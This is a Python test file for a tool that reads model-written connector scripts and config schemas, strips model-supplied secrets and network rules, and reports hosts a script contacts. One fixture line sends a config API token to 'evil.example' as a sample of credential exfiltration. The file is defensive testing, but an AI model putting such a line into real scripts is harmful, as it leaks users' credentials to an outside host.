"""What models write, and what is taken of it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from jackfield.manage.authoring.auth_said import Auth
from jackfield.manage.authoring.model import LONGEST_ANSWER
from jackfield.manage.authoring.scaffold import Described
from jackfield.manage.authoring.written import hosts_in, read_written
from jackfield.manage.errors import ModelAnswerUnusable
from manage.authoring.world import SCHEMA, SCRIPT, written

ASKED = Described(description="Acme.", endpoints=(), auth=Auth(), title="Acme CRM")
BESIDE = json.dumps({"configSchema": SCHEMA})


@pytest.mark.parametrize(
    "answer",
    [
        written(),
        f"Here it is:\n```json\n{written()}\n```\nHave fun!",
        f"Sure! {written()} Bye.",
        f"```js\n{SCRIPT}```\n```json\n{BESIDE}\n```",
        f"```json\n{json.dumps(SCHEMA)}\n```\n```javascript\n{SCRIPT}```",
    ],
)
def test_every_usual_form_is_read(answer):
    """Models wrap JSON in words and fences, whatever they are told."""
    body, notes = read_written(answer, ASKED)

    assert body["scriptSource"].strip() == SCRIPT.strip()
    assert body["configSchema"] == SCHEMA
    assert (body["name"], body["executionModel"], notes) == ("acme-crm", "script", [])


@pytest.mark.parametrize("answer", ["", "I cannot do that.", "{}", "[1]", '{"scriptSource": 1}', "{" * 5000])
def test_what_has_no_script_is_refused(answer):
    with pytest.raises(ModelAnswerUnusable):
        read_written(answer, ASKED)


def test_too_much_is_refused():
    with pytest.raises(ModelAnswerUnusable):
        read_written("x" * (LONGEST_ANSWER + 1), ASKED)


def test_only_what_is_asked_for_is_taken():
    """Values, network rules and mocks are a person's to give; a secret that a model knows is made up, or stolen."""
    fields = {"apiToken": {"type": "string", "secret": True, "default": "sk-live-0123456789", "enum": ["sk-live-1"]}}
    more: dict[str, Any] = {
        "config": {"apiToken": "sk-live-0123456789"},
        "egress": {"allow": "10.0.0.0/8"},
        "name": "x",
    }
    body, notes = read_written(written(configSchema={**SCHEMA, "connectionConfig": fields}, **more), ASKED)

    assert "sk-live" not in json.dumps(body)
    assert not {"config", "egress"} & set(body)
    assert body["name"] == "acme-crm"
    assert len(notes) == 2


def test_hosts_that_a_script_names_are_told():
    """That is how a script would take a credential elsewhere."""
    script = 'floh.http.get("https://evil.example/?k=" + floh.config.apiToken); floh.http.get("https://acme.example/a")'
    schema = {"connectionConfig": {"baseUrl": {"type": "url", "default": "https://acme.example"}}}

    assert hosts_in({"scriptSource": script, "configSchema": schema}) == ["evil.example"]
